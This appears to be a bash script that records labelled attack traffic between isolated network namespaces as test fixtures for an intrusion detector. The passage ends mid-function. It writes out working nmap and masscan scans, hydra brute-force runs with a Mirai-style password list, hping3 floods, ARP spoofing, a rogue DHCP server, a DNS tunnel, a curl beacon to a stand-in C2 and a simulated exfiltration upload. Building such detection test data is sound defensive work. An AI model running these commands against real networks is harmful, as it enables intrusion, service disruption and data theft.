#!/usr/bin/env bash
# Records labelled attack captures made by real tools (nmap, masscan, hydra, hping3, arpspoof,
# iodine, dnsmasq, curl ...) between network namespaces, into test/fixtures/scenarios/ with
# labels.json. See test/scenarios/README.md for the network plan and each scenario.
#
#   sudo bash scripts/install-scenario-tools.sh      # once: the tools
#   sudo bash test/scenarios/generate.sh             # every scenario
#   sudo bash test/scenarios/generate.sh hydra-ssh beacon-curl   # only these (labels.json keeps the rest)
#   sudo bash test/scenarios/generate.sh --list
#   sudo bash test/scenarios/generate.sh --up        # only build the network and start the services,
#                                                    # until Ctrl-C (to try tools by hand)
#
# Environment: VS_OUT (output folder, default test/fixtures/scenarios), VS_KEEP=1 keeps the work
# folder (daemon logs) after the run.
set -euo pipefail

HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
ROOT="$(cd "$HERE/../.." && pwd)"
OUT="${VS_OUT:-$ROOT/test/fixtures/scenarios}"
HELP="$HERE/helpers.py"
PY=/usr/bin/python3; [ -x "$PY" ] || PY="$(command -v python3)"
BB=/usr/local/lib/vigil-scenarios/busybox  # busybox-static: telnetd + login, as on IoT devices
export PATH="$PATH:/usr/sbin:/sbin"

SCENARIOS=(nmap-syn-scan nmap-connect-horizontal nmap-udp-scan mirai-telnet-scan hydra-telnet
  hydra-telnet-inbound hydra-ssh hydra-ftp hydra-http-basic hping3-syn-flood hping3-udp-flood
  arpspoof-mitm iodine-tunnel rogue-dhcp beacon-curl large-upload telnet-login benign-home)
NAMESPACES=(vs-lan vs-router vs-inet vs-cam vs-nas vs-laptop vs-attacker vs-client)

# ---- addresses (fixed so the labels are stable) ----
MAC_ROUTER=02:00:00:00:50:01; IP_ROUTER=192.168.50.1
MAC_CAM=02:00:00:00:50:20;    IP_CAM=192.168.50.20
MAC_NAS=02:00:00:00:50:30;    IP_NAS=192.168.50.30
MAC_LAPTOP=02:00:00:00:50:40; IP_LAPTOP=192.168.50.40
MAC_CLIENT=02:00:00:00:50:60  # DHCP client, no static address
MAC_ATT=02:00:00:00:50:66;    IP_ATT=192.168.50.66
WAN_ROUTER=192.0.2.2; WAN_INET=192.0.2.1
INET_WEB=203.0.113.10      # www.example.com, the beacon's C2 and the benign web
INET_IODINE=203.0.113.53   # iodined: authoritative for t.example.test
INET_DNS=198.51.100.53     # the router's upstream resolver
INET_ATTACKER=192.0.47.66  # source of the inbound brute force (public, as the C2 and sink below)
# Beacon C2 and upload sink sit on public (non-documentation) addresses: the engine, like Zeek's
# Site::private_address_space, counts 198.51.100/24 and 203.0.113/24 as local, and beaconing and
# exfiltration are about the internet. IANA's own addresses: nothing here leaves the namespaces.
INET_C2=93.184.215.14      # c2.example.net, the beacon's C2
INET_SINK=192.0.43.10      # upload sink
INET_NTP=203.0.113.123
INET_VICTIM=203.0.113.200  # flood victim: routed to vs-inet, which does not answer (outside its local ranges)

USER_NAME=admin
USER_PASS=xc3511           # the camera's "default" password (a classic Mirai dictionary entry)
WRONG_PASSWORDS=(admin 123456 password root 1234 default 12345 guest user vizxv 888888 666666 54321
  7ujMko0admin klv123 hi3518 juantech)

die() { echo "generate: $*" >&2; exit 1; }
say() { echo "generate: $*"; }

need_tools() {
  local missing=()
  for b in nmap masscan hydra hping3 arpspoof iodine iodined sshd vsftpd busybox dnsmasq udhcpc curl \
           tcpdump ip socat python3 ssh ssh-keygen ifconfig ethtool openssl timeout setsid; do
    command -v "$b" >/dev/null 2>&1 || missing+=("$b")
  done
  "$BB" --list 2>/dev/null | grep -qx telnetd || missing+=("$BB (busybox-static telnetd)")
  [ ${#missing[@]} -eq 0 ] || die "missing tools: ${missing[*]} (run: sudo bash scripts/install-scenario-tools.sh)"
}

bbver() { "$BB" 2>&1 | head -1 | awk '{print $2}' | tr -d v; }
pkgver() { dpkg-query -W -f='${Version}' "$1" 2>/dev/null | sed 's/^[0-9]*://; s/[+-].*//'; }

# ---- running things inside the namespaces ----
# Every command runs through `ip netns exec`, which gives it a private mount namespace: the
# user database (an extra "admin" user), resolv.conf (the router) and the login records are
# bind-mounted from the work folder there, so nothing on the host changes.
# Daemons also get their own hostname (the namespace's name without "vs-"): login prompts then
# read "nas login:" rather than the host's name.
inns() {
  local ns="$1"; shift
  ip netns exec "$ns" unshare --uts /bin/sh -c '
    W="$1"; hostname "$2"; shift 2
    for f in passwd shadow group resolv.conf issue.net login.defs; do mount --bind "$W/etc/$f" "/etc/$f"; done
    for f in lastlog wtmp btmp; do if [ -e "/var/log/$f" ]; then mount --bind "$W/log/$f" "/var/log/$f"; fi; done
    cd "$W" && exec "$@"' inns "$W" "${ns#vs-}" "$@"
}
# daemon NAME NS CMD...: a background service, its own process group, log in $W/logs/NAME.log
daemon() {
  local name="$1" ns="$2"; shift 2
  inns "$ns" setsid "$@" >"$W/logs/$name.log" 2>&1 &
  echo "$!" >>"$W/pids"
}
# run SECS NS CMD...: a client tool, bounded in time
run() {
  local secs="$1" ns="$2"; shift 2
  timeout -k 5 "$secs" ip netns exec "$ns" /bin/sh -c '
    W="$1"; shift
    for f in passwd shadow group resolv.conf; do mount --bind "$W/etc/$f" "/etc/$f"; done
    cd "$W" && exec "$@"' run "$W" "$@"
}
wait_port() { # NS PROTO(tcp|udp) ADDR:PORT
  local i
  for i in $(seq 1 50); do
    ip netns exec "$1" ss -Hln"${2:0:1}" | awk '{print $4}' | grep -qxF -e "$3" -e "*:${3##*:}" -e "0.0.0.0:${3##*:}" && return 0
    sleep 0.2
  done
  die "nothing listening on $3/$2 in $1 (see $W/logs)"
}

kill_daemons() {
  [ -f "$W/pids" ] || return 0
  local p
  while read -r p; do kill -TERM -- "-$p" 2>/dev/null || kill -TERM "$p" 2>/dev/null || true; done <"$W/pids"
  sleep 0.5
  while read -r p; do kill -KILL -- "-$p" 2>/dev/null || true; done <"$W/pids"
  : >"$W/pids"
}

teardown() {
  local rc=$?
  trap - EXIT INT TERM
  [ -n "${CAP_PID:-}" ] && kill -INT "$CAP_PID" 2>/dev/null || true
  [ -n "${W:-}" ] && kill_daemons
  local j
  for j in $(jobs -p); do kill -TERM "$j" 2>/dev/null || true; done
  local ns p
  for ns in "${NAMESPACES[@]}"; do
    ip netns list | awk '{print $1}' | grep -qx "$ns" || continue
    # whatever still runs in our namespaces was started by this script
    for p in $(ip netns pids "$ns" 2>/dev/null); do kill -KILL "$p" 2>/dev/null || true; done
    ip netns del "$ns" 2>/dev/null || true
  done
  if [ -n "${W:-}" ] && [ -d "$W" ]; then
    if [ "${VS_KEEP:-0}" = 1 ] || [ "$rc" -ne 0 ]; then say "work folder kept: $W"; else rm -rf "$W"; fi
  fi
  exit "$rc"
}

# ---- the network ----
ns_new() {
  ip netns add "$1"
  ip netns exec "$1" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
  ip netns exec "$1" ip link set lo up
}
quiet_link() { # NS DEV: no offloads, so the capture holds wire-sized frames with real checksums
  ip netns exec "$1" ethtool -K "$2" tx off sg off tso off gso off gro off >/dev/null 2>&1 || true
}
lan_device() { # NS MAC [IP]
  local ns="$1" mac="$2" ip="${3:-}" port="p-${1#vs-}"
  ns_new "$ns"
  ip link add "$port" netns vs-lan type veth peer name eth0 netns "$ns"
  ip netns exec "$ns" ip link set eth0 address "$mac"
  ip netns exec vs-lan ip link set "$port" master vs-br0 up
  ip netns exec "$ns" ip link set eth0 up
  quiet_link vs-lan "$port"; quiet_link "$ns" eth0
  if [ -n "$ip" ]; then
    ip netns exec "$ns" ip addr add "$ip/24" dev eth0
    ip netns exec "$ns" ip route add default via "$IP_ROUTER"
  fi
}

build_network() {
  say "building the namespaces"
  ns_new vs-lan
  ip netns exec vs-lan ip link add vs-br0 type bridge stp_state 0 forward_delay 0 mcast_snooping 0
  ip netns exec vs-lan ip link set vs-br0 up

  # the router: LAN side on the bridge, WAN side a point-to-point link to the "internet"
  lan_device vs-router "$MAC_ROUTER"
  ip netns exec vs-router ip addr add "$IP_ROUTER/24" dev eth0
  ns_new vs-inet
  ip link add wan0 netns vs-router type veth peer name wan0 netns vs-inet
  ip netns exec vs-router ip link set wan0 address 02:00:00:00:00:02
  ip netns exec vs-inet ip link set wan0 address 02:00:00:00:00:01
  for ns in vs-router vs-inet; do ip netns exec "$ns" ip link set wan0 up; quiet_link "$ns" wan0; done
  ip netns exec vs-router ip addr add "$WAN_ROUTER/24" dev wan0
  ip netns exec vs-router ip route add default via "$WAN_INET"
  ip netns exec vs-router sysctl -qw net.ipv4.ip_forward=1
  ip netns exec vs-inet ip addr add "$WAN_INET/24" dev wan0
  # "The internet": every address of 198.51.100.0/24 and 203.0.113.0/25 is local to vs-inet
  # (closed ports answer RST), and the named servers have their own address; the rest of
  # 203.0.113.128/25 is routed here but answers nothing.
  ip netns exec vs-inet ip route add local 198.51.100.0/24 dev lo
  ip netns exec vs-inet ip route add local 203.0.113.0/25 dev lo
  for a in "$INET_WEB" "$INET_C2" "$INET_IODINE" "$INET_DNS" "$INET_ATTACKER" "$INET_SINK" "$INET_NTP"; do
    ip netns exec vs-inet ip addr add "$a/32" dev lo
  done
  # LAN reached through the router (plain routing: on the LAN this looks like a port forward);
  # connections the internet opens come from the "attacker" address
  ip netns exec vs-inet ip route add 192.168.50.0/24 via "$WAN_ROUTER" src "$INET_ATTACKER"

  lan_device vs-cam "$MAC_CAM" "$IP_CAM"
  lan_device vs-nas "$MAC_NAS" "$IP_NAS"
  lan_device vs-laptop "$MAC_LAPTOP" "$IP_LAPTOP"
  lan_device vs-attacker "$MAC_ATT" "$IP_ATT"
  lan_device vs-client "$MAC_CLIENT"
  # the NAS answers every closed UDP port (no ICMP rate limit), so the UDP scan ends quickly
  ip netns exec vs-nas sysctl -qw net.ipv4.icmp_ratelimit=0
}

prepare_files() {
  mkdir -p "$W/etc" "$W/log" "$W/logs" "$W/parts" "$W/home/admin" "$W/www/admin" "$W/empty" "$W/ssh" \
           "$W/ftp"
  : >"$W/pids"
  # user database: the host's plus "admin" (uid 2001), only ever mounted inside the namespaces
  local hash
  hash="$(openssl passwd -6 "$USER_PASS")"
  cp /etc/passwd "$W/etc/passwd"; cp /etc/group "$W/etc/group"; cp /etc/shadow "$W/etc/shadow"
  echo "admin:x:2001:2001:device admin:$W/home/admin:/bin/sh" >>"$W/etc/passwd"
  echo "admin:x:2001:" >>"$W/etc/group"
  echo "admin:$hash:19000:0:99999:7:::" >>"$W/etc/shadow"
  chmod 0640 "$W/etc/shadow"
  printf 'nameserver %s\n' "$IP_ROUTER" >"$W/etc/resolv.conf"
  for f in lastlog wtmp btmp; do : >"$W/log/$f"; done
  chown 2001:2001 "$W/home/admin"
  chmod 0755 "$W" "$W/home" 2>/dev/null || true

  # wordlist: the right password last
  printf '%s\n' "${WRONG_PASSWORDS[@]}" "$USER_PASS" >"$W/passwords.txt"

  # sshd
  ssh-keygen -q -t ed25519 -N '' -f "$W/ssh/host_ed25519" </dev/null
  ssh-keygen -q -t ed25519 -N '' -f "$W/ssh/client" </dev/null
  cp "$W/ssh/client.pub" "$W/ssh/authorized_keys"
  cat >"$W/ssh/sshd_config" <<EOF
Port 22
ListenAddress 0.0.0.0
HostKey $W/ssh/host_ed25519
PasswordAuthentication yes
KbdInteractiveAuthentication no
PubkeyAuthentication yes
AuthorizedKeysFile $W/ssh/authorized_keys
UsePAM no
PermitRootLogin no
StrictModes no
PidFile none
MaxStartups 50:30:100
MaxAuthTries 2
LoginGraceTime 20
UseDNS no
LogLevel INFO
EOF
  mkdir -p /run/sshd

  # vsftpd (PAM service "vsftpd": pam_unix against the mounted shadow)
  chmod 0755 "$W/empty"
  cat >"$W/vsftpd.conf" <<EOF
listen=YES
listen_ipv6=NO
background=NO
anonymous_enable=NO
local_enable=YES
write_enable=NO
pam_service_name=vsftpd
secure_chroot_dir=$W/empty
xferlog_enable=NO
seccomp_sandbox=NO
delay_failed_login=1
ftpd_banner=NAS FTP service ready.
EOF

  # busybox httpd with basic auth on /admin
  echo '<html><body>NAS</body></html>' >"$W/www/index.html"
  echo '<html><body>NAS admin</body></html>' >"$W/www/admin/index.html"
  printf '/admin:%s:%s\n' "$USER_NAME" "$USER_PASS" >"$W/httpd.conf"

  printf '#!/bin/sh\nexit 0\n' >"$W/udhcpc-noop.sh"; chmod +x "$W/udhcpc-noop.sh"

  # telnetd runs /bin/login (PAM) allowing one try per session: hydra's telnet module loses
  # track of a session that re-prompts after a failure (it skips passwords), and with one try a
  # session each guess is its own connection, as Mirai's scanner does it.
  sed 's/^LOGIN_RETRIES.*/LOGIN_RETRIES 1/' /etc/login.defs >"$W/etc/login.defs"
  grep -q '^LOGIN_RETRIES' "$W/etc/login.defs" || echo 'LOGIN_RETRIES 1' >>"$W/etc/login.defs"
  printf 'Welcome\n' >"$W/etc/issue.net"
}

start_services() {
  say "starting the services"
  # the internet: HTTP on :80/:8080 on every vs-inet address, NTP, its resolver, iodined
  daemon inet-services vs-inet "$PY" "$HELP" serve "$INET_NTP"
  # each name has an AAAA record too (documentation range, unused: IPv6 is off) because this
  # dnsmasq, having no upstream, answers REFUSED to a question it has no record for
  daemon inet-dns vs-inet dnsmasq -k -u root --no-resolv --no-hosts --pid-file= \
    --listen-address="$INET_DNS" --bind-interfaces \
    --host-record=www.example.com,"$INET_WEB",2001:db8::10 \
    --host-record=updates.example.com,"$INET_WEB",2001:db8::10 \
    --host-record=c2.example.net,"$INET_C2",2001:db8::10 \
    --host-record=time.example.org,"$INET_NTP",2001:db8::123
  daemon iodined vs-inet iodined -f -c -P vigilpw -l "$INET_IODINE" -p 53 10.53.0.1/27 t.example.test
  # the router: DNS forwarder and the legitimate DHCP server
  daemon router-dnsmasq vs-router dnsmasq -k -u root --no-resolv --no-hosts --pid-file= \
    --interface=eth0 --bind-interfaces --server="$INET_DNS" --bogus-priv --domain-needed \
    --dhcp-range=192.168.50.100,192.168.50.150,255.255.255.0,1h --dhcp-authoritative \
    --dhcp-option=3,"$IP_ROUTER" --dhcp-option=6,"$IP_ROUTER" --dhcp-leasefile="$W/router.leases"
  # the NAS: telnetd, sshd, vsftpd, a web admin page with basic auth
  daemon nas-telnetd vs-nas "$BB" telnetd -F -p 23 -l /bin/login
  daemon nas-sshd vs-nas /usr/sbin/sshd -D -e -f "$W/ssh/sshd_config"
  daemon nas-vsftpd vs-nas vsftpd "$W/vsftpd.conf"
  daemon nas-httpd vs-nas busybox httpd -f -p 80 -h "$W/www" -c "$W/httpd.conf"
  # the camera: telnetd (the classic IoT exposure)
  daemon cam-telnetd vs-cam "$BB" telnetd -F -p 23 -l /bin/login

  wait_port vs-inet tcp 0.0.0.0:80
  wait_port vs-inet udp "$INET_NTP:123"
  wait_port vs-inet udp "$INET_DNS:53"
  wait_port vs-inet udp "$INET_IODINE:53"
  wait_port vs-router udp "$IP_ROUTER:53"
  wait_port vs-nas tcp 0.0.0.0:23
  wait_port vs-nas tcp 0.0.0.0:22
  wait_port vs-nas tcp 0.0.0.0:21
  wait_port vs-nas tcp 0.0.0.0:80
  wait_port vs-cam tcp 0.0.0.0:23
  # smoke test: the LAN reaches the internet through the router
  run 10 vs-laptop curl -sf -o /dev/null "http://$INET_WEB/" || die "the laptop cannot reach $INET_WEB"
}

# ---- capture ----
CAP_PID=""
capture_start() { # FILE SNAPLEN MAXPACKETS
  CAP_FILE="$1"
  rm -f "$CAP_FILE"
  sleep 2  # let the previous scenario's last packets (late FTP replies, RSTs) go by unrecorded
  for ns in "${NAMESPACES[@]}"; do ip netns exec "$ns" ip neigh flush all 2>/dev/null || true; done
  ip netns exec vs-lan tcpdump -i vs-br0 -s "$2" -c "$3" -U -n -w "$CAP_FILE" 2>"$W/logs/tcpdump.log" &
  CAP_PID=$!
  local i
  for i in $(seq 1 50); do grep -q "listening on" "$W/logs/tcpdump.log" 2>/dev/null && break; sleep 0.1; done
  sleep 0.5
}
capture_stop() {
  sleep 1.5
  kill -INT "$CAP_PID" 2>/dev/null || true
  wait "$CAP_PID" 2>/dev/null || true
  CAP_PID=""
  [ -s "$CAP_FILE" ] || die "empty capture $CAP_FILE"
}

# label NAME TOOL DESCRIPTION BENIGN CONFIG_JSON EXPECT_JSON
label() {
  "$PY" "$HELP" label "$W/parts/$1.json" "$1" "$1.pcap" "$2" "$3" "$4" "$5" "$6"
}
exp() { printf '{"code":"%s","device":%s}' "$1" "$( [ "$2" = null ] && echo null || echo "\"$2\"")"; }
expl() { local IFS=,; echo "[$*]"; }

# ---- the scenarios: each records $OUT/<name>.pcap and writes its label ----

sc_nmap-syn-scan() {
  capture_start "$OUT/$1.pcap" 200 20000
  run 120 vs-attacker nmap -sS -n -Pn -T4 -p 1-200 "$IP_NAS" >"$W/logs/$1.out"
  capture_stop
  label "$1" "nmap $(pkgver nmap): nmap -sS -n -Pn -T4 -p 1-200 $IP_NAS" \
    "The LAN attacker SYN-scans ports 1-200 of the NAS (open: 21, 22, 23, 80)." false '{}' \
    "$(expl "$(exp scan.vertical "$MAC_ATT")")"
}

sc_nmap-connect-horizontal() {
  capture_start "$OUT/$1.pcap" 200 20000
  run 180 vs-attacker nmap -sT -n -Pn -T4 -p 80 "$IP_CAM" "$IP_NAS" "$IP_LAPTOP" 198.51.100.1-50 \
    >"$W/logs/$1.out"
  capture_stop
  label "$1" "nmap $(pkgver nmap): nmap -sT -n -Pn -T4 -p 80 $IP_CAM $IP_NAS $IP_LAPTOP 198.51.100.1-50" \
    "The LAN attacker connect-scans port 80 on 3 LAN hosts and 50 internet hosts." false '{}' \
    "$(expl "$(exp scan.horizontal "$MAC_ATT")")"
}

sc_nmap-udp-scan() {
  capture_start "$OUT/$1.pcap" 200 20000
  run 180 vs-attacker nmap -sU -n -Pn -T4 --max-retries 1 -p 1-100 "$IP_NAS" >"$W/logs/$1.out"
  capture_stop
  label "$1" "nmap $(pkgver nmap): nmap -sU -n -Pn -T4 --max-retries 1 -p 1-100 $IP_NAS" \
    "The LAN attacker UDP-scans ports 1-100 of the NAS, which answers ICMP port unreachable." false '{}' \
    "$(expl "$(exp scan.vertical "$MAC_ATT")")"
}

sc_mirai-telnet-scan() {
  capture_start "$OUT/$1.pcap" 200 20000
  # 768 probes at 100/s take ~8 s. masscan 1.3.2 never leaves its final wait here (its receive
  # thread stays blocked in libpcap), so it is interrupted like a user does: SIGINT after 14 s.
  run 60 vs-cam timeout -s INT -k 5 14 masscan -p23,2323 203.0.113.0/24 198.51.100.0/25 --rate 100 \
    --wait 3 --adapter eth0 --adapter-ip "$IP_CAM" --adapter-mac "$MAC_CAM" --router-mac "$MAC_ROUTER" \
    >"$W/logs/$1.out" 2>/dev/null || true
  capture_stop
  [ "$(tcpdump -nn -r "$OUT/$1.pcap" 'tcp[tcpflags] == tcp-syn' 2>/dev/null | wc -l)" -ge 700 ] \
    || die "$1: masscan sent fewer than 700 SYNs"
  label "$1" "masscan $(pkgver masscan): masscan -p23,2323 203.0.113.0/24 198.51.100.0/25 --rate 100 --wait 3 --adapter eth0 --adapter-ip $IP_CAM --router-mac $MAC_ROUTER" \
    "The camera scans 384 internet addresses on telnet ports 23 and 2323 at 100 packets/s, as a Mirai bot does." \
    false '{}' "$(expl "$(exp infected.propagation "$MAC_CAM")")"
}

sc_hydra-telnet() {
  capture_start "$OUT/$1.pcap" 512 20000
  run 180 vs-attacker hydra -I -l "$USER_NAME" -P "$W/passwords.txt" -t 4 -f "telnet://$IP_NAS" \
    >"$W/logs/$1.out" 2>&1 || true
  capture_stop
  grep -q "password: $USER_PASS" "$W/logs/$1.out" || die "$1: hydra did not find the password (see $W/logs/$1.out)"
  label "$1" "hydra $(pkgver hydra): hydra -l admin -P passwords.txt (${#WRONG_PASSWORDS[@]} wrong, the right one last) -t 4 -f telnet://$IP_NAS" \
    "The LAN attacker brute-forces the NAS's telnetd (busybox telnetd, /bin/login, one try a session) and the last password works." false '{}' \
    "$(expl "$(exp bruteforce.telnet "$MAC_ATT")" "$(exp bruteforce.success "$MAC_ATT")")"
}

sc_hydra-telnet-inbound() {
  capture_start "$OUT/$1.pcap" 512 20000
  run 180 vs-inet hydra -I -l "$USER_NAME" -P "$W/passwords.txt" -t 4 -f "telnet://$IP_CAM" \
    >"$W/logs/$1.out" 2>&1 || true
  capture_stop
  grep -q "password: $USER_PASS" "$W/logs/$1.out" || die "$1: hydra did not find the password (see $W/logs/$1.out)"
  label "$1" "hydra $(pkgver hydra): hydra -l admin -P passwords.txt (${#WRONG_PASSWORDS[@]} wrong, the right one last) -t 4 -f telnet://$IP_CAM (from $INET_ATTACKER)" \
    "An internet host brute-forces the camera's telnetd (busybox telnetd, /bin/login, one try a session) through the router and the last password works." false '{}' \
    "$(expl "$(exp bruteforce.telnet "$MAC_CAM")" "$(exp bruteforce.success "$MAC_CAM")" "$(exp unsafe.telnet_exposed "$MAC_CAM")")"
}

sc_hydra-ssh() {
  capture_start "$OUT/$1.pcap" 200 20000
  run 180 vs-attacker hydra -I -l "$USER_NAME" -P "$W/passwords.txt" -t 4 -f "ssh://$IP_NAS" \
    >"$W/logs/$1.out" 2>&1 || true
  capture_stop
  grep -q "password: $USER_PASS" "$W/logs/$1.out" || die "$1: hydra did not find the password (see $W/logs/$1.out)"
  label "$1" "hydra $(pkgver hydra): hydra -l admin -P passwords.txt (${#WRONG_PASSWORDS[@]} wrong, the right one last) -t 4 -f ssh://$IP_NAS" \
    "The LAN attacker brute-forces the NAS's OpenSSH server; the last password works." false '{}' \
    "$(expl "$(exp bruteforce.ssh "$MAC_ATT")")"
}

sc_hydra-ftp() {
  capture_start "$OUT/$1.pcap" 200 20000
  run 180 vs-attacker hydra -I -l "$USER_NAME" -P "$W/passwords.txt" -t 4 -f "ftp://$IP_NAS" \
    >"$W/logs/$1.out" 2>&1 || true
  capture_stop
  grep -q "password: $USER_PASS" "$W/logs/$1.out" || die "$1: hydra did not find the password (see $W/logs/$1.out)"
  label "$1" "hydra $(pkgver hydra): hydra -l admin -P passwords.txt (${#WRONG_PASSWORDS[@]} wrong, the right one last) -t 4 -f ftp://$IP_NAS" \
    "The LAN attacker brute-forces the NAS's vsftpd; the last password works." false '{}' \
    "$(expl "$(exp bruteforce.ftp "$MAC_ATT")" "$(exp bruteforce.success "$MAC_ATT")")"
}

sc_hydra-http-basic() {
  capture_start "$OUT/$1.pcap" 512 20000
  run 180 vs-attacker hydra -I -l "$USER_NAME" -P "$W/passwords.txt" -t 4 -f "$IP_NAS" http-get /admin/ \
    >"$W/logs/$1.out" 2>&1 || true
  capture_stop
  grep -q "password: $USER_PASS" "$W/logs/$1.out" || die "$1: hydra did not find the password (see $W/logs/$1.out)"
  label "$1" "hydra $(pkgver hydra): hydra -l admin -P passwords.txt (${#WRONG_PASSWORDS[@]} wrong, the right one last) -t 4 -f $IP_NAS http-get /admin/" \
    "The LAN attacker brute-forces HTTP basic auth on the NAS's busybox httpd; the last password works." false '{}' \
    "$(expl "$(exp bruteforce.http "$MAC_ATT")")"
}

sc_hping3-syn-flood() {
  capture_start "$OUT/$1.pcap" 96 20000
  run 60 vs-cam hping3 -q -S -p 80 -i u100 -c 15000 "$INET_VICTIM" >"$W/logs/$1.out" 2>&1 || true
  capture_stop
  label "$1" "hping3 $(pkgver hping3): hping3 -q -S -p 80 -i u100 -c 15000 $INET_VICTIM" \
    "The camera sends 15,000 TCP SYNs to one internet victim's port 80 as fast as it can (a SYN flood)." false '{}' \
    "$(expl "$(exp flood.syn "$MAC_CAM")")"
}

sc_hping3-udp-flood() {
  capture_start "$OUT/$1.pcap" 96 20000
  run 60 vs-cam hping3 -q -2 -p 53 -d 64 -i u100 -c 8000 "$INET_VICTIM" >"$W/logs/$1.out" 2>&1 || true
  capture_stop
  label "$1" "hping3 $(pkgver hping3): hping3 -q -2 -p 53 -d 64 -i u100 -c 8000 $INET_VICTIM" \
    "The camera sends 8,000 64-byte UDP datagrams to one internet victim's port 53 (a UDP flood)." false '{}' \
    "$(expl "$(exp flood.udp "$MAC_CAM")")"
}

sc_arpspoof-mitm() {
  ip netns exec vs-attacker sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 \
    net.ipv4.conf.eth0.send_redirects=0
  capture_start "$OUT/$1.pcap" 200 20000
  # the laptop talks to the internet before, during and after the poisoning
  run 40 vs-laptop sh -c "for i in \$(seq 1 22); do curl -s -m 2 -o /dev/null http://$INET_WEB/news; busybox ping -c 1 -W 1 $INET_WEB >/dev/null; sleep 1; done" &
  local talker=$!
  sleep 3
  # arpspoof re-ARPs the true addresses for a few seconds when it is interrupted
  run 30 vs-attacker timeout -s INT 15 arpspoof -i eth0 -t "$IP_LAPTOP" -r "$IP_ROUTER" >"$W/logs/$1.out" 2>&1 || true
  wait "$talker" || true
  capture_stop
  ip netns exec vs-attacker sysctl -qw net.ipv4.ip_forward=0
  label "$1" "arpspoof (dsniff $(pkgver dsniff)): arpspoof -i eth0 -t $IP_LAPTOP -r $IP_ROUTER (15 s)" \
    "The LAN attacker poisons the laptop's and the router's ARP caches (each told the other's IP is at the attacker's MAC) and forwards their traffic." \
    false '{}' "$(expl "$(exp mitm.arp_spoof "$MAC_ATT")")"
}

sc_iodine-tunnel() {
  head -c 200000 /dev/urandom >"$W/tunnel-payload.bin"
  daemon iodine-sink vs-inet socat -u TCP-LISTEN:5000,reuseaddr OPEN:/dev/null
  capture_start "$OUT/$1.pcap" 512 40000
  daemon iodine-client vs-laptop iodine -f -r -P vigilpw "$INET_IODINE" t.example.test
  local i
  for i in $(seq 1 60); do ip netns exec vs-laptop ip -br addr show dns0 2>/dev/null | grep -q 10.53.0 && break; sleep 0.5; done
  ip netns exec vs-laptop ip -br addr show dns0 | grep -q 10.53.0 || die "$1: the iodine tunnel did not come up (see $W/logs)"
  run 180 vs-laptop socat -u OPEN:"$W/tunnel-payload.bin" TCP:10.53.0.1:5000 || die "$1: the upload through the tunnel failed"
  capture_stop
  kill_daemons_named iodine-client iodine-sink
  label "$1" "iodine $(pkgver iodine): iodine -f -r -P *** $INET_IODINE t.example.test; 200 KB sent through the tunnel with socat" \
    "The laptop opens an iodine DNS tunnel (queries straight to the authoritative iodined for t.example.test) and pushes 200 KB of random data through it." \
    false '{}' "$(expl "$(exp dns.tunnel "$MAC_LAPTOP")")"
}

sc_rogue-dhcp() {
  capture_start "$OUT/$1.pcap" 512 20000
  # first the legitimate server alone, so it is the first one seen
  run 30 vs-client udhcpc -i eth0 -f -q -n -t 4 -T 2 -s "$W/udhcpc-noop.sh" >"$W/logs/$1.out" 2>&1 \
    || die "$1: no lease from the legitimate server"
  sleep 2
  # --no-ping: the rogue skips the "is this address free" ping and so answers first
  daemon rogue-dnsmasq vs-attacker dnsmasq -k -u root --no-resolv --no-hosts --pid-file= --port=0 --no-ping \
    --interface=eth0 --bind-interfaces --dhcp-range=192.168.50.200,192.168.50.250,255.255.255.0,10m \
    --dhcp-authoritative --dhcp-option=3,"$IP_ATT" --dhcp-option=6,"$IP_ATT" \
    --dhcp-leasefile="$W/rogue.leases"
  sleep 2
  local i
  for i in 1 2 3 4; do
    run 30 vs-client udhcpc -i eth0 -f -q -n -t 4 -T 2 -s "$W/udhcpc-noop.sh" >>"$W/logs/$1.out" 2>&1 || true
    sleep 1
  done
  capture_stop
  kill_daemons_named rogue-dnsmasq
  grep -q "from 192.168.50.66\|server 192.168.50.66\|192.168.50.2[0-5][0-9]" "$W/logs/$1.out" \
    || say "$1: note: the client took no offer from the rogue server (it still offered; see the capture)"
  label "$1" "dnsmasq $(pkgver dnsmasq-base) as a rogue DHCP server on the attacker; udhcpc (busybox $(pkgver udhcpc)) run 5 times" \
    "The router's dnsmasq serves DHCP; then the attacker starts a second dnsmasq that offers addresses with itself as gateway and DNS, and a client asks for a lease 4 more times." \
    false '{}' "$(expl "$(exp dhcp.rogue_server "$MAC_ATT")")"
}

sc_beacon-curl() {
  capture_start "$OUT/$1.pcap" 200 20000
  # 60 requests, 2 s apart with up to 0.3 s of jitter
  run 300 vs-cam sh -c "for i in \$(seq 1 60); do
      curl -s -m 3 -o /dev/null -A 'Mozilla/4.0' -H 'Host: c2.example.net' 'http://$INET_C2/gate.php?id=cam01&i='\$i
      sleep 2.\$(shuf -i 0-3 -n 1)
    done"
  capture_stop
  label "$1" "curl $(pkgver curl) in a loop: curl -s -H 'Host: c2.example.net' http://$INET_C2/gate.php?id=cam01, 60 times, every 2-2.3 s" \
    "The camera calls the same internet server every 2 s with small jitter (a C2 beacon, compressed in time: the config lowers the span and count)." \
    false '{"detect.beacon.minSpanSeconds": 100, "detect.beacon.minConnections": 20}' \
    "$(expl "$(exp beacon "$MAC_CAM")")"
}

sc_large-upload() {
  head -c 20000000 /dev/urandom >"$W/upload.bin"
  capture_start "$OUT/$1.pcap" 72 60000
  run 120 vs-laptop curl -s -m 100 -o /dev/null -H 'Expect:' -T "$W/upload.bin" "http://$INET_SINK:8080/upload/backup.tar" \
    || die "$1: the upload failed"
  capture_stop
  rm -f "$W/upload.bin"
  label "$1" "curl $(pkgver curl): curl -T upload.bin (20 MB random) http://$INET_SINK:8080/upload/backup.tar" \
    "The laptop uploads 20 MB to an internet server it never used (capture cut to 72 bytes a packet: headers only)." \
    false '{"detect.exfil.bytes": 10000000}' "$(expl "$(exp exfil.upload "$MAC_LAPTOP")")"
}

sc_telnet-login() {
  capture_start "$OUT/$1.pcap" 512 20000
  run 60 vs-laptop "$PY" "$HELP" telnet-login "$IP_CAM" "$USER_NAME" "$USER_PASS" || die "$1: the telnet login failed"
  capture_stop
  label "$1" "busybox $(bbver) telnetd on the camera; a scripted telnet client (python telnetlib) logs in once" \
    "The laptop logs in to the camera's telnetd with the right password at the first try, runs a command and logs out." \
